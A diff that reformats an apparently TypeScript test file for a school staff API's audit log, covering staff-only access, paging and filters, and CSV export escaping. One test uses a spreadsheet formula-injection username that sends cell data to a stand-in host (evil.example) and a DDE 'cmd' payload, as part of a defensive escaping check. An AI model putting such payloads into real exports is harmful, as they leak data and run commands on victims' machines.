@@ -23,8 +23,17 @@ beforeAll(async () => {
   });
   expect(created.statusCode, created.body).toBe(201);
   teacherId = created.json().id;
-  const { email: _email, ...payload } = teacherPayload({ full_name: 'Olga Auditada', bio: 'Bio nueva', bank_account: '9999999999' });
-  const updated = await context.app.inject({ method: 'PUT', url: `/api/staff/teachers/${teacherId}`, headers: staff.auth, payload });
+  const { email: _email, ...payload } = teacherPayload({
+    full_name: 'Olga Auditada',
+    bio: 'Bio nueva',
+    bank_account: '9999999999',
+  });
+  const updated = await context.app.inject({
+    method: 'PUT',
+    url: `/api/staff/teachers/${teacherId}`,
+    headers: staff.auth,
+    payload,
+  });
   expect(updated.statusCode, updated.body).toBe(200);
 });
 
@@ -46,7 +55,8 @@ describe('the audit log', () => {
   });
 
   it('is staff only', async () => {
-    for (const url of ['/api/audit', '/api/audit/1', '/api/audit.csv']) expect((await get(teacher, url)).statusCode).toBe(403);
+    for (const url of ['/api/audit', '/api/audit/1', '/api/audit.csv'])
+      expect((await get(teacher, url)).statusCode).toBe(403);
   });
 
   it('pages newest first with a cursor, filters by person, kind and days, and refuses bad filters', async () => {
@@ -87,8 +97,16 @@ describe('the audit log', () => {
 
   it('quotes text a spreadsheet would read as a formula (a username, an activity), as a spreadsheet reads the file back', async () => {
     const link = '=HYPERLINK("http://evil.example/?x="&C2,"Marta")';
-    const person = await createUser({ db: context.db, input: { email: 'formula@test.school', password: 'correct-horse-battery', username: link, role: 'teacher' } });
-    await recordActivity(context.db, { userId: person.id, activity: "@SUM(1)+cmd|' /C calc'!A0", entityType: 'formula', entityId: 1 });
+    const person = await createUser({
+      db: context.db,
+      input: { email: 'formula@test.school', password: 'correct-horse-battery', username: link, role: 'teacher' },
+    });
+    await recordActivity(context.db, {
+      userId: person.id,
+      activity: "@SUM(1)+cmd|' /C calc'!A0",
+      entityType: 'formula',
+      entityId: 1,
+    });
     const response = await get(staff, '/api/audit.csv?entity_type=formula');
     const rows = parse(response.body, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows).toHaveLength(1);
